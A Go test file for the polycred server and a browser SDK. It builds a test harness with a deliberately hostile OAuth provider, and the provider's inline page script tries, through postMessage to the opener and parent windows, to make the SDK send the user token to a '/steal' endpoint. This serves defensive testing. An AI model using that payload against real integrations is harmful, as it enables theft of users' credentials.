package sdktest_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/polycred/polycred/core/usertoken"
	"github.com/polycred/polycred/internal/need"
)

// project is the one that tests serve.
const project = "01930000-0000-7000-8000-0000000000aa"

// sdk is the version that is driven, as the package itself has it.
const sdk = "2.4.0"

// packages sees to it that the packages of package-lock.json are there. It installs them where CI=true, and where install says
// so because somebody asked for this very test; elsewhere the test is skipped.
func packages(t *testing.T, install bool) {
	t.Helper()
	need.Program(t, "node")
	if installed() != nil && (install || os.Getenv("CI") == "true") {
		npm := need.Program(t, "npm")
		ci := exec.CommandContext(t.Context(), npm, "ci", "--ignore-scripts")
		if out, err := ci.CombinedOutput(); err != nil {
			t.Fatalf("npm ci: %v, %d bytes of output", err, len(out)) // which may name a registry
		}
	}
	err := installed()
	need.That(t, err == nil, "the packages of internal/sdktest (npm ci --ignore-scripts, there)")
}

// installed is nil when what lies in node_modules is what package-lock.json pins.
func installed() error {
	var pinned, there struct {
		Packages map[string]struct{ Version, Integrity string }
	}
	for file, into := range map[string]any{"package-lock.json": &pinned, "node_modules/.package-lock.json": &there} {
		text, err := os.ReadFile(file)
		if err != nil {
			return err
		}
		if err := json.Unmarshal(text, into); err != nil {
			return err
		}
	}
	for name, p := range there.Packages {
		if want := pinned.Packages[name]; p != want {
			return fmt.Errorf("%s is %s, want %s", name, p.Version, want.Version)
		}
	}
	if v := there.Packages["node_modules/@useparagon/connect"].Version; v != sdk {
		return fmt.Errorf("the SDK is %s, want %s", v, sdk)
	}
	return nil
}

// program builds examples/server once.
var program = sync.OnceValues(func() (string, error) {
	dir, err := os.MkdirTemp("", "polycred-sdktest-")
	if err != nil {
		return "", err
	}
	built := filepath.Join(dir, "server")
	out, err := exec.Command("go", "build", "-o", built, "../../examples/server").CombinedOutput()
	if err != nil {
		return "", fmt.Errorf("build examples/server: %w: %s", err, out)
	}
	return built, nil
})

func TestMain(m *testing.M) {
	code := m.Run()
	if built, err := program(); err == nil {
		_ = os.RemoveAll(filepath.Dir(built))
	}
	os.Exit(code)
}

// house is examples/server with its demo, an application's origin, and a provider that means harm.
type house struct {
	*testing.T
	key     ed25519.PrivateKey
	app     *httptest.Server
	hostile *hostile
	at      struct{ PublicURL, HTTP, TLS, Project, Provider, Application string }
	log     *lines
}

// newHouse starts one under a public URL, whose port 0 stands for the one that is served.
func newHouse(t *testing.T, public string) *house {
	t.Helper()
	built, err := program()
	if err != nil {
		t.Fatal(err)
	}
	h := &house{T: t, log: &lines{}, hostile: newHostile(t)}
	h.app = httptest.NewServer(application())
	t.Cleanup(h.app.Close)
	configuration, err := json.Marshal(map[string]any{
		"project": project, "publicUrl": public, "application": "Zeppelin", "signingKeys": []string{h.newKey()},
		"allowedOrigins": []string{h.app.URL}, "redirectUrls": []string{h.app.URL + "/connected"},
		"privateHosts": []string{strings.TrimPrefix(h.hostile.URL, "http://")},
		"integrations": []any{map[string]any{
			"name": "hostile", "displayName": "Hostile", "allowedHosts": []string{h.hostile.URL},
			"oauth2": map[string]any{
				"clientId": "c", "clientSecret": "s", "authorizationUrl": h.hostile.URL + "/authorize", "tokenUrl": h.hostile.URL + "/token",
			},
		}},
	})
	if err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "config.json")
	if err := os.WriteFile(file, configuration, 0o600); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.WithoutCancel(t.Context()))
	server := exec.CommandContext(ctx, built, "-demo", "-json", "-config", file, "-http", "127.0.0.1:0", "-tls", "127.0.0.1:0")
	server.Stderr = h.log
	server.Cancel = func() error { return server.Process.Signal(syscall.SIGTERM) }
	server.WaitDelay = 20 * time.Second
	out, err := server.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := server.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cancel()
		_ = server.Wait()
		if code := server.ProcessState.ExitCode(); code != 0 {
			t.Errorf("the server ended with %d: %s", code, h.log)
		}
		h.log.search(t)
	})
	first, err := bufio.NewReader(out).ReadBytes('\n')
	if err != nil || json.Unmarshal(first, &h.at) != nil {
		t.Fatalf("the server said %q: %v: %s", first, err, h.log)
	}
	return h
}

// newKey makes the application's key, and returns the public half.
func (h *house) newKey() string {
	h.Helper()
	public, private, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		h.Fatal(err)
	}
	h.key = private
	der, err := x509.MarshalPKIXPublicKey(public)
	if err != nil {
		h.Fatal(err)
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}))
}

func (h *house) token(change func(*usertoken.MintInput)) string {
	h.Helper()
	in := usertoken.MintInput{Project: project, User: "user-1", Lifetime: time.Hour}
	if change != nil {
		change(&in)
	}
	token, err := usertoken.Mint(h.key, in)
	if err != nil {
		h.Fatal(err)
	}
	return token
}

// drive runs a script with Node; each line that it prints is a step, which becomes a subtest. More is told to it as well.
func (h *house) drive(script string, more map[string]any) {
	h.Helper()
	_, other, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		h.Fatal(err)
	}
	foreign, err := usertoken.Mint(other, usertoken.MintInput{Project: project, User: "user-1"})
	if err != nil {
		h.Fatal(err)
	}
	told := map[string]any{
		"public": h.at.PublicURL, "http": h.at.HTTP, "tls": h.at.TLS, "project": project, "provider": h.at.Provider, "app": h.app.URL,
		"redirect": h.app.URL + "/connected", "hostile": h.hostile.URL, "demo": h.at.Application,
		"tokens": map[string]string{
			"user":     h.token(nil),
			"stranger": h.token(func(in *usertoken.MintInput) { in.User = "user-2" }),
			"reader": h.token(func(in *usertoken.MintInput) {
				in.Permissions = map[string]any{"integration:*": []string{"credential:read", "configuration:read"}}
			}),
			"expired": h.token(func(in *usertoken.MintInput) { in.Now = time.Now().Add(-3 * time.Hour) }),
			"project": h.token(func(in *usertoken.MintInput) { in.Project = "01930000-0000-7000-8000-0000000000bb" }),
			"foreign": foreign,
		},
	}
	for name, value := range more {
		told[name] = value
	}
	text, err := json.Marshal(told)
	if err != nil {
		h.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(h.Context(), 5*time.Minute)
	defer cancel()
	node := exec.CommandContext(ctx, need.Program(h.T, "node"), script)
	node.Env = append(os.Environ(), "SDKTEST="+string(text), "NODE_NO_WARNINGS=1")
	node.WaitDelay = 10 * time.Second
	var complaints bytes.Buffer
	node.Stderr = &complaints
	out, err := node.StdoutPipe()
	if err != nil {
		h.Fatal(err)
	}
	if err := node.Start(); err != nil {
		h.Fatal(err)
	}
	steps := 0
	for scanner := bufio.NewScanner(out); scanner.Scan(); steps++ {
		var step struct {
			Step, Error string
			Took        int
		}
		if err := json.Unmarshal(scanner.Bytes(), &step); err != nil {
			h.Errorf("%s said %q", script, scanner.Text())
			continue
		}
		h.Run(step.Step, func(t *testing.T) {
			t.Logf("took %d ms", step.Took)
			if step.Error != "" {
				t.Errorf("%s\nthe server's log ends with:\n%s", step.Error, h.log.tail())
			}
		})
	}
	if err := node.Wait(); err != nil || steps == 0 {
		h.Errorf("%s: %v after %d steps: %s", script, err, steps, complaints.Bytes())
	}
}

// application serves the pages of the application, and the SDK as npm has it.
func application() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /{$}", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = io.WriteString(w, `<!doctype html><title>Zeppelin</title><body><script>var module = {exports: {}}, exports = module.exports</script>`+
			`<script src="/sdk.js"></script><script>window.paragon = module.exports.paragon</script></body>`)
	})
	mux.HandleFunc("GET /sdk.js", func(w http.ResponseWriter, r *http.Request) {
		http.ServeFile(w, r, "node_modules/@useparagon/connect/dist/src/index.js")
	})
	mux.HandleFunc("GET /connected", func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "Connected.") })
	return mux
}

// hostile is a provider that wants the user token: its page tries what it can with the window that opened it, and whatever
// arrives here is written down.
type hostile struct {
	*httptest.Server
	mu  sync.Mutex // guards got
	got []arrival
}

// arrival is one request to the hostile provider.
type arrival struct {
	Method, Path, Referer, Authorization, Report string
}

func newHostile(t *testing.T) *hostile {
	h := &hostile{got: []arrival{}}
	h.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.mu.Lock()
		defer h.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Headers", "*, Authorization")
		switch r.URL.Path {
		case "/got":
			_ = json.NewEncoder(w).Encode(h.got)
			return
		case "/favicon.ico":
			return
		}
		h.got = append(h.got, arrival{r.Method, r.URL.Path, r.Referer(), r.Header.Get("Authorization"), r.URL.Query().Get("report")})
		w.Header().Set("Content-Type", "text/html")
		if r.URL.Path == "/authorize" {
			_, _ = io.WriteString(w, hostilePage)
		}
	}))
	t.Cleanup(h.Close)
	return h
}

// hostilePage asks the SDK to send the user token here, in every way that a page in a popup has.
const hostilePage = `<!doctype html><title>Hostile</title><script>
const ask = {messageType: "SDK_FUNCTION_INVOCATION", type: "sendConnectRequest", id: "1",
  parameters: ["/steal", {method: "GET", baseURLOverride: location.origin}, false]}
const windows = [window.opener, window.open("", "_parent"), window.parent].filter(w => w && w !== window)
for (const w of windows) w.postMessage(ask, "*")
fetch("/report?report=" + (window.opener ? "opener" : "alone") + "," + windows.length + "," + document.referrer)
document.title = "done"
</script>`

// lines is the log of a server. It may be written to concurrently.
type lines struct {
	mu   sync.Mutex // guards text
	text bytes.Buffer
}

func (l *lines) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.text.Write(p)
}

func (l *lines) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.text.String()
}

func (l *lines) tail() string {
	all := strings.Split(strings.TrimSpace(l.String()), "\n")
	return strings.Join(all[max(0, len(all)-12):], "\n")
}

// search is security 27: no line of the log holds a token.
func (l *lines) search(t *testing.T) {
	for line := range strings.Lines(l.String()) {
		for _, canary := range []string{"eyJ", "userToken", "at-", "rt-", "code-", "canary", "state="} {
			if i := strings.Index(line, canary); i >= 0 && (i == 0 || strings.ContainsRune(" =\"/", rune(line[i-1]))) {
				t.Errorf("%q stands in a line of the log: %s", canary, line)
			}
		}
	}
}
